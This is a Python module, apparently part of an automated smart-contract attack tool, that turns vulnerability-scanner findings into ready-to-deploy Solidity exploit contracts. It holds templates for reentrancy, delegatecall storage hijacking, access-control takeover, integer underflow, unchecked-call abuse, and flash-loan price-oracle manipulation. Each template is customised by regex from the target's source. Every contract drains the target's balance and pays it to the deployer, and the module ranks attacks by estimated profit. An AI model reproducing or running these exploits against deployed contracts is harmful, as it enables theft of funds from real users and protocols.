"""
Strategy Factory - Turns scanner findings into concrete exploit plans

Each finding kind maps to exactly one generator. Generators are pure: they
read the finding, target address, source text and any decoded constructor
parameters or contract state, and return a Strategy with a complete Foundry
proof-of-concept contract. Every PoC takes the target address as its only
constructor argument and forwards proceeds to its deployer.
"""

import re
from types import MappingProxyType
from typing import Any, Callable, Dict, List, Optional

from .base import BaseTool
from ..models import Finding, FindingKind, ProfitTier, Severity, Strategy, clip_confidence
from ..pricing.tokens import TokenRegistry


# Confidence deflation for kinds whose PoC depends on contract-specific guesses
CONFIDENCE_FACTORS = MappingProxyType({
    FindingKind.ACCESS_CONTROL: 0.8,
    FindingKind.INTEGER_OVERFLOW: 0.7,
    FindingKind.UNCHECKED_CALL: 0.6,
})

# Flash swap source for chains without a registered pair
DEFAULT_FLASH_PAIR = TokenRegistry.get_flash_pair(1)

POC_HEADER = """// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;
"""

PAYOUT_FN = """
    function _payout() internal {
        (bool ok, ) = payable(owner).call{value: address(this).balance}("");
        require(ok, "payout failed");
    }

    receive() external payable {}
"""

REENTRANCY_POC = POC_HEADER + """
interface ITarget {
    function __DEPOSIT_FN__() external payable;
    function __WITHDRAW_FN__(uint256 amount) external;
}

contract ReentrancyExploit {
    ITarget public immutable target;
    address public immutable owner;
    uint256 public constant MAX_REENTRIES = 10;
    uint256 public attackCount;
    uint256 private stake;

    constructor(address _target) {
        target = ITarget(_target);
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.value > 0, "stake required");
        stake = msg.value;
        target.__DEPOSIT_FN__{value: msg.value}();
        target.__WITHDRAW_FN__(msg.value);
        (bool ok, ) = payable(owner).call{value: address(this).balance}("");
        require(ok, "payout failed");
    }

    receive() external payable {
        if (attackCount < MAX_REENTRIES && address(target).balance >= stake) {
            attackCount++;
            target.__WITHDRAW_FN__(stake);
        }
    }
}
"""

DELEGATECALL_POC = POC_HEADER + """
contract StorageOverwritePayload {
    address public slot0;

    // Runs in the target's storage context
    function hijack(address recipient) external {
        slot0 = recipient;
        payable(recipient).transfer(address(this).balance);
    }
}

contract DelegateCallExploit {
    address public immutable target;
    address public immutable owner;
    StorageOverwritePayload public immutable payload;

    constructor(address _target) {
        target = _target;
        owner = msg.sender;
        payload = new StorageOverwritePayload();
    }

    function exploit() external payable {
        bytes memory hijack = abi.encodeWithSelector(StorageOverwritePayload.hijack.selector, address(this));
        (bool ok, ) = target.call(
            abi.encodeWithSignature("__DELEGATE_FN__(address,bytes)", address(payload), hijack)
        );
        require(ok, "delegatecall entry rejected");
        _payout();
    }
""" + PAYOUT_FN + """}
"""

ACCESS_CONTROL_POC = POC_HEADER + """
interface ITarget {
    function __PRIVILEGED_FN__(address account) external;
    function __DRAIN_FN__() external;
}

contract AccessControlExploit {
    ITarget public immutable target;
    address public immutable owner;

    constructor(address _target) {
        target = ITarget(_target);
        owner = msg.sender;
    }

    function exploit() external payable {
        // Unguarded privileged setter hands this contract control
        target.__PRIVILEGED_FN__(address(this));
        target.__DRAIN_FN__();
        _payout();
    }
""" + PAYOUT_FN + """}
"""

INTEGER_OVERFLOW_POC = POC_HEADER + """
interface ITarget {
    function __WITHDRAW_FN__(uint256 amount) external;
}

contract IntegerOverflowExploit {
    ITarget public immutable target;
    address public immutable owner;

    constructor(address _target) {
        target = ITarget(_target);
        owner = msg.sender;
    }

    function exploit() external payable {
        uint256 available = address(target).balance;
        require(available > 0, "nothing to drain");
        // Internal balance is zero; unchecked subtraction wraps instead of reverting
        target.__WITHDRAW_FN__(available);
        _payout();
    }
""" + PAYOUT_FN + """}
"""

UNCHECKED_CALL_POC = POC_HEADER + """
interface ITarget {
    function __DEPOSIT_FN__(uint256 amount) external;
    function __WITHDRAW_FN__(uint256 amount) external;
}

contract UncheckedCallExploit {
    ITarget public immutable target;
    address public immutable owner;

    constructor(address _target) {
        target = ITarget(_target);
        owner = msg.sender;
    }

    function exploit() external payable {
        uint256 amount = address(target).balance;
        require(amount > 0, "nothing to drain");
        // No allowance granted: the inner transfer fails but its result is ignored
        target.__DEPOSIT_FN__(amount);
        target.__WITHDRAW_FN__(amount);
        _payout();
    }
""" + PAYOUT_FN + """}
"""

PRICE_ORACLE_POC = POC_HEADER + """
interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IUniswapV2Pair {
    function token0() external view returns (address);
    function token1() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
    function sync() external;
}

interface ITarget {
    function __PRICED_FN__() external payable;
}

contract PriceOracleExploit {
    address public immutable target;
    address public immutable owner;
    IUniswapV2Pair public immutable pair;

    constructor(address _target) {
        target = _target;
        owner = msg.sender;
        pair = IUniswapV2Pair(__FLASH_PAIR__);
    }

    function attack() external payable {
        (uint112 reserve0, , ) = pair.getReserves();
        // Borrow 30% of reserve0 to skew the spot price read by the target
        pair.swap(uint256(reserve0) * 30 / 100, 0, address(this), abi.encode(msg.value));
        _payout();
    }

    function uniswapV2Call(address, uint256 amount0, uint256, bytes calldata data) external {
        require(msg.sender == address(pair), "unexpected caller");
        IERC20 borrowed = IERC20(pair.token0());
        uint256 stake = abi.decode(data, (uint256));

        ITarget(target).__PRICED_FN__{value: stake}();

        uint256 repayment = (amount0 * 1000) / 997 + 1;
        require(borrowed.balanceOf(address(this)) >= repayment, "manipulation unprofitable");
        borrowed.transfer(address(pair), repayment);
    }
""" + PAYOUT_FN + """}
"""

FLASH_LOAN_POC = POC_HEADER + """
interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IUniswapV2Pair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface ITarget {
    function __ARBITRAGE_FN__(uint256 amount) external;
}

contract FlashLoanExploit {
    address public immutable target;
    address public immutable owner;
    IUniswapV2Pair public immutable pair;

    constructor(address _target) {
        target = _target;
        owner = msg.sender;
        pair = IUniswapV2Pair(__FLASH_PAIR__);
    }

    function attack() external payable {
        (uint112 reserve0, , ) = pair.getReserves();
        pair.swap(uint256(reserve0) / 10, 0, address(this), "");
        _payout();
    }

    function uniswapV2Call(address, uint256 amount0, uint256, bytes calldata) external {
        require(msg.sender == address(pair), "unexpected caller");
        IERC20 borrowed = IERC20(pair.token0());
        borrowed.approve(target, amount0);

        ITarget(target).__ARBITRAGE_FN__(amount0);

        uint256 repayment = (amount0 * 1000) / 997 + 1;
        require(borrowed.balanceOf(address(this)) >= repayment, "loan not covered");
        borrowed.transfer(address(pair), repayment);
    }
""" + PAYOUT_FN + """}
"""


def find_function_name(source: str, pattern: str, default: str) -> str:
    """Return the first declared function whose name matches pattern"""
    if not source:
        return default
    match = re.search(r"function\s+(" + pattern + r")\s*\(", source, re.IGNORECASE)
    return match.group(1) if match else default


def find_delegating_function(source: str, default: str = "execute") -> str:
    """Return the first function whose body contains a delegatecall"""
    if not source:
        return default
    match = re.search(r"function\s+(\w+)\s*\([^)]*\)[^{;]*\{[^}]*delegatecall", source)
    return match.group(1) if match else default


def fill_template(template: str, **placeholders: str) -> str:
    for name, value in placeholders.items():
        template = template.replace(f"__{name}__", value)
    return template


def _adjusted(finding: Finding) -> float:
    return clip_confidence(finding.confidence * CONFIDENCE_FACTORS.get(finding.kind, 1.0))


def _flash_pair(contract_state: Optional[Dict[str, Any]]) -> str:
    """Explicit pair from contract state, else the registered pair of the target chain"""
    state = contract_state or {}
    if state.get("flash_pair"):
        return state["flash_pair"]
    return TokenRegistry.get_flash_pair(state.get("chain_id", 1)) or DEFAULT_FLASH_PAIR


def reentrancy_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    withdraw_fn = find_function_name(source, r"withdraw\w*", "withdraw")
    deposit_fn = find_function_name(source, r"deposit\w*", "deposit")
    return Strategy(
        kind=finding.kind,
        severity=Severity.CRITICAL,
        confidence=_adjusted(finding),
        description=f"Reentrancy exploit re-entering {withdraw_fn}() before balances are updated",
        proof_of_concept=fill_template(REENTRANCY_POC, DEPOSIT_FN=deposit_fn, WITHDRAW_FN=withdraw_fn),
        estimated_profit=ProfitTier.HIGH,
        requirements=("Contract must have withdraw function", "Insufficient reentrancy protection"),
        steps=(
            "Deploy exploit contract",
            "Deposit funds to target contract",
            "Call withdraw function",
            "Exploit reentrancy in receive/fallback",
            "Drain contract funds",
        ),
        entrypoint="attack",
    )


def delegatecall_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    delegate_fn = find_delegating_function(source)
    return Strategy(
        kind=finding.kind,
        severity=Severity.CRITICAL,
        confidence=_adjusted(finding),
        description=f"Delegatecall exploit through {delegate_fn}() to overwrite storage and gain control",
        proof_of_concept=fill_template(DELEGATECALL_POC, DELEGATE_FN=delegate_fn),
        estimated_profit=ProfitTier.VERY_HIGH,
        requirements=("Contract uses delegatecall with user input", "Insufficient input validation"),
        steps=(
            "Identify delegatecall usage",
            "Craft malicious payload",
            "Overwrite critical storage slots",
            "Gain administrative control",
            "Drain contract funds",
        ),
    )


def access_control_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    privileged_fn = find_function_name(
        source, r"(?:set|transfer|change|update)\w*(?:owner|admin)\w*", "transferOwnership"
    )
    drain_fn = find_function_name(source, r"(?:withdraw|drain|sweep|rescue|emergency)\w*", "withdraw")
    return Strategy(
        kind=finding.kind,
        severity=Severity.HIGH,
        confidence=_adjusted(finding),
        description=f"Access control bypass via {privileged_fn}() followed by {drain_fn}()",
        proof_of_concept=fill_template(ACCESS_CONTROL_POC, PRIVILEGED_FN=privileged_fn, DRAIN_FN=drain_fn),
        estimated_profit=ProfitTier.MEDIUM,
        requirements=("Flawed access control implementation",),
        steps=(
            "Analyze access control patterns",
            "Find bypass methods",
            "Execute privileged functions",
        ),
    )


def integer_overflow_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    withdraw_fn = find_function_name(source, r"(?:withdraw|redeem)\w*", "withdraw")
    return Strategy(
        kind=finding.kind,
        severity=Severity.HIGH,
        confidence=_adjusted(finding),
        description=f"Integer underflow exploit on the balance check in {withdraw_fn}()",
        proof_of_concept=fill_template(INTEGER_OVERFLOW_POC, WITHDRAW_FN=withdraw_fn),
        estimated_profit=ProfitTier.MEDIUM,
        requirements=("Arithmetic operations without SafeMath", "Solidity version < 0.8.0"),
        steps=(
            "Identify vulnerable arithmetic",
            "Craft overflow conditions",
            "Manipulate contract state",
        ),
    )


def price_oracle_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    priced_fn = find_function_name(source, r"(?:borrow|mint|buy|swap|liquidate)\w*", "borrow")
    return Strategy(
        kind=finding.kind,
        severity=Severity.HIGH,
        confidence=_adjusted(finding),
        description="Price oracle manipulation using flash loans",
        proof_of_concept=fill_template(
            PRICE_ORACLE_POC, PRICED_FN=priced_fn, FLASH_PAIR=_flash_pair(contract_state)
        ),
        estimated_profit=ProfitTier.VERY_HIGH,
        requirements=("Contract relies on manipulable price oracle", "Flash loan availability"),
        steps=(
            "Identify price oracle dependency",
            "Calculate manipulation cost",
            "Execute flash loan attack",
            "Manipulate price oracle",
            "Execute profitable transaction",
            "Restore price and repay loan",
        ),
        entrypoint="attack",
    )


def unchecked_call_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    deposit_fn = find_function_name(source, r"(?:deposit|stake)\w*", "deposit")
    withdraw_fn = find_function_name(source, r"(?:withdraw|unstake|redeem)\w*", "withdraw")
    return Strategy(
        kind=finding.kind,
        severity=Severity.MEDIUM,
        confidence=_adjusted(finding),
        description="Unchecked external call exploitation",
        proof_of_concept=fill_template(UNCHECKED_CALL_POC, DEPOSIT_FN=deposit_fn, WITHDRAW_FN=withdraw_fn),
        estimated_profit=ProfitTier.LOW_TO_MEDIUM,
        requirements=("External calls without return value checks",),
        steps=(
            "Identify unchecked calls",
            "Cause call failures",
            "Exploit logic flaws",
        ),
    )


def flash_loan_strategy(finding, contract_address, source, constructor_params, contract_state) -> Strategy:
    arbitrage_fn = find_function_name(source, r"(?:swap|trade|arbitrage|exchange)\w*", "swap")
    return Strategy(
        kind=finding.kind,
        severity=Severity.MEDIUM,
        confidence=_adjusted(finding),
        description="Flash loan arbitrage/manipulation exploit",
        proof_of_concept=fill_template(
            FLASH_LOAN_POC, ARBITRAGE_FN=arbitrage_fn, FLASH_PAIR=_flash_pair(contract_state)
        ),
        estimated_profit=ProfitTier.HIGH,
        requirements=("Flash loan availability", "Arbitrage or manipulation opportunity"),
        steps=(
            "Identify arbitrage opportunity",
            "Calculate optimal loan amount",
            "Execute flash loan strategy",
        ),
        entrypoint="attack",
    )


GENERATORS: "MappingProxyType[FindingKind, Callable[..., Strategy]]" = MappingProxyType({
    FindingKind.REENTRANCY: reentrancy_strategy,
    FindingKind.DELEGATECALL: delegatecall_strategy,
    FindingKind.ACCESS_CONTROL: access_control_strategy,
    FindingKind.INTEGER_OVERFLOW: integer_overflow_strategy,
    FindingKind.PRICE_ORACLE_MANIPULATION: price_oracle_strategy,
    FindingKind.UNCHECKED_CALL: unchecked_call_strategy,
    FindingKind.FLASH_LOAN: flash_loan_strategy,
})


class StrategyFactory(BaseTool):
    """Maps each finding kind to a concrete exploit strategy"""

    def get_name(self) -> str:
        return "strategy_factory"

    def get_description(self) -> str:
        return "Synthesizes proof-of-concept exploit strategies from vulnerability findings"

    def create(
        self,
        finding: Finding,
        contract_address: str,
        source: str = "",
        constructor_params: Optional[Dict[str, Any]] = None,
        contract_state: Optional[Dict[str, Any]] = None
    ) -> Optional[Strategy]:
        """Build the strategy for one finding, or None for kinds without a generator"""
        generator = GENERATORS.get(finding.kind)
        if generator is None:
            self.logger.warning(f"No strategy generator for finding kind {finding.kind!r}, skipping")
            return None
        return generator(finding, contract_address, source, constructor_params or {}, contract_state or {})

    def create_all(
        self,
        findings: List[Finding],
        contract_address: str,
        source: str = "",
        constructor_params: Optional[Dict[str, Any]] = None,
        contract_state: Optional[Dict[str, Any]] = None
    ) -> List[Strategy]:
        strategies = []
        for finding in findings:
            strategy = self.create(finding, contract_address, source, constructor_params, contract_state)
            if strategy is not None:
                strategies.append(strategy)
        self.logger.info(f"🛠️ Generated {len(strategies)} strategies from {len(findings)} findings")
        return strategies
